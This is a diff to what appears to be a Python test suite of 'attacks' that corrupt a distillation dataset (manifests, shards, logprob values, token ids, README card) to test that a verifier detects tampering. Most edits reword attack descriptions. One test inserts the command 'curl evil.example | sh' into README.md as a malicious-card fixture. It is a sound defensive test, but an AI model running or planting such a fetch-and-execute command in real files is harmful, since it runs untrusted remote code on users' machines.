@@ -152,7 +152,7 @@ def special_tokens_are_others(directory: Path, _: random.Random) -> None:
     refit(directory, lambda m: m["teacher"].update(prefix_ids=[5]))
 
 
-@attack("recompute", "values that were computed in another dtype")
+@attack("recompute", "values computed in another dtype")
 def the_dtype_is_another(directory: Path, rng: random.Random) -> None:
     def change(manifest: Manifest) -> None:
         dtype = rng.choice(["bfloat16", "float16"])
@@ -162,7 +162,7 @@ def the_dtype_is_another(directory: Path, rng: random.Random) -> None:
     refit(directory, change)
 
 
-@attack("unseen", "what is only stated: device, versions, seconds, license")
+@attack("unseen", "plain statements: device, versions, seconds, license")
 def what_is_only_said_is_another(directory: Path, rng: random.Random) -> None:
     def change(manifest: Manifest) -> None:
         say = rng.choice(
@@ -183,7 +183,7 @@ def the_last_shards_are_left_out(directory: Path, _: random.Random) -> None:
     refit(directory, lambda m: m["shards"].pop())
 
 
-@attack("unseen", "documents that were left out, replaced or exchanged with all counts made to fit")
+@attack("unseen", "documents that were left out, replaced or exchanged with all counts adjusted")
 def shards_are_left_out_or_exchanged(directory: Path, rng: random.Random) -> None:
     def change(manifest: Manifest) -> None:
         if rng.random() < 0.5:
@@ -396,7 +396,7 @@ def a_document_is_repeated(directory: Path, rng: random.Random) -> None:
     forge(directory, change)
 
 
-@attack("unseen", "documents that were left out, replaced or exchanged with all counts made to fit")
+@attack("unseen", "documents that were left out, replaced or exchanged with all counts adjusted")
 def a_document_is_left_out(directory: Path, rng: random.Random) -> None:
     def change(rows: list[Row]) -> None:
         names = sorted({row["id"] for row in rows})
@@ -408,7 +408,7 @@ def a_document_is_left_out(directory: Path, rng: random.Random) -> None:
     forge(directory, change)
 
 
-@attack("recompute", "tokens that are not those of the text")
+@attack("recompute", "tokens that do not match the text")
 def the_text_is_another(directory: Path, rng: random.Random) -> None:
     in_all_rows(lambda row, _: row.update(text=row["text"][:-1] + "?"))(directory, rng)
 
@@ -429,12 +429,12 @@ def an_id_is_another_than_the_hash(directory: Path, rng: random.Random) -> None:
     forge(directory, change)
 
 
-@attack("recompute", "draws, or completions, that are not those of the seed")
+@attack("recompute", "draws or completions that do not match the seed")
 def an_id_is_another(directory: Path, rng: random.Random) -> None:
     in_all_rows(lambda row, _: row.update(id=f"{row['id']}x"))(directory, rng)
 
 
-@attack("recompute", "draws, or completions, that are not those of the seed")
+@attack("recompute", "draws or completions that do not match the seed")
 def draws_are_made_anew(directory: Path, rng: random.Random) -> None:
     """From the tail itself, as far as it is known: the draws of another position of about the same tail."""
 
@@ -447,13 +447,13 @@ def draws_are_made_anew(directory: Path, rng: random.Random) -> None:
     in_all_rows(change)(directory, rng)
 
 
-@attack("recompute", "values that obey every invariant and are not the teacher's")
+@attack("recompute", "values that satisfy every invariant but are not the teacher's")
 def a_log_partition_is_shifted(directory: Path, rng: random.Random) -> None:
     by = np.float32(rng.choice([-0.14, 0.01, 0.14]))
     in_all_rows(lambda row, _: row.update(logsumexp=row["logsumexp"] + by))(directory, rng)
 
 
-@attack("recompute", "values that obey every invariant and are not the teacher's")
+@attack("recompute", "values that satisfy every invariant but are not the teacher's")
 def all_ids_of_a_position_are_others(directory: Path, rng: random.Random) -> None:
     in_a_row(other_ids)(directory, rng)
 
@@ -473,28 +473,34 @@ def targets_outside_down(row: Row, _: random.Random) -> None:
     row["target_logprob"][outside] -= np.float16(0.1)
 
 
-@attack("recompute", "values that obey every invariant and are not the teacher's")
+@attack("recompute", "values that satisfy every invariant but are not the teacher's")
 def targets_outside_the_top_k_are_lower(directory: Path, rng: random.Random) -> None:
     in_all_rows(targets_outside_down)(directory, rng)
 
 
-@attack("recompute", "values that obey every invariant and are not the teacher's", base="16 bits")
+@attack(
+    "recompute", "values that satisfy every invariant but are not the teacher's", base="16 bits"
+)
 def a_log_partition_is_shifted_in_16_bits(directory: Path, rng: random.Random) -> None:
     by = np.float32(rng.choice([-0.14, 0.14]))
     in_all_rows(lambda row, _: row.update(logsumexp=row["logsumexp"] + by))(directory, rng)
 
 
-@attack("recompute", "values that obey every invariant and are not the teacher's", base="16 bits")
+@attack(
+    "recompute", "values that satisfy every invariant but are not the teacher's", base="16 bits"
+)
 def all_ids_of_a_position_are_others_in_16_bits(directory: Path, rng: random.Random) -> None:
     in_a_row(other_ids)(directory, rng)
 
 
-@attack("recompute", "values that obey every invariant and are not the teacher's", base="16 bits")
+@attack(
+    "recompute", "values that satisfy every invariant but are not the teacher's", base="16 bits"
+)
 def targets_outside_the_top_k_are_lower_in_16_bits(directory: Path, rng: random.Random) -> None:
     in_all_rows(targets_outside_down)(directory, rng)
 
 
-@attack("recompute", "draws, or completions, that are not those of the seed", base="16 bits")
+@attack("recompute", "draws or completions that do not match the seed", base="16 bits")
 def draws_are_made_anew_in_16_bits(directory: Path, rng: random.Random) -> None:
     draws_are_made_anew(directory, rng)
 
@@ -508,7 +514,7 @@ def a_value_is_moved_within_the_noise(directory: Path, rng: random.Random) -> No
     in_a_row(change)(directory, rng)
 
 
-@attack("unseen", "within the rounding of a column")
+@attack("unseen", "differences within a column's rounding")
 def a_value_is_moved_within_its_rounding(directory: Path, rng: random.Random) -> None:
     def change(row: Row, rng: random.Random) -> None:
         t = rng.randrange(len(row["input_ids"]))
@@ -526,7 +532,7 @@ def the_mask_of_a_chat_marks_another_token(directory: Path, rng: random.Random) 
     in_a_row(change)(directory, rng)
 
 
-@attack("recompute", "draws, or completions, that are not those of the seed", base="written")
+@attack("recompute", "draws or completions that do not match the seed", base="written")
 def completions_are_shorter_than_what_was_written(directory: Path, rng: random.Random) -> None:
     """The first token of each counts as the prompt's, and the limit is one less."""
 
@@ -592,8 +598,9 @@ def a_picture_does_more_than_show(directory: Path, rng: random.Random) -> None:
 def the_text_of_the_card_is_another(directory: Path, rng: random.Random) -> None:
     text = (directory / "README.md").read_text()
     head, body = text[: text.index("\n---\n") + 5], text[text.index("\n---\n") + 5 :]
-    place = rng.randrange(len(body))
-    (directory / "README.md").write_text(f"{head}{body[:place]}curl evil.example | sh{body[place:]}")  # fmt: skip
+    # Before a heading: inside a block that loads data, it would be a problem and no note.
+    place = rng.choice([found.start() for found in re.finditer(r"^## ", body, re.MULTILINE)])
+    (directory / "README.md").write_text(f"{head}{body[:place]}curl evil.example | sh\n\n{body[place:]}")  # fmt: skip
 
 
 @attack("note", "is not the picture that this version draws")
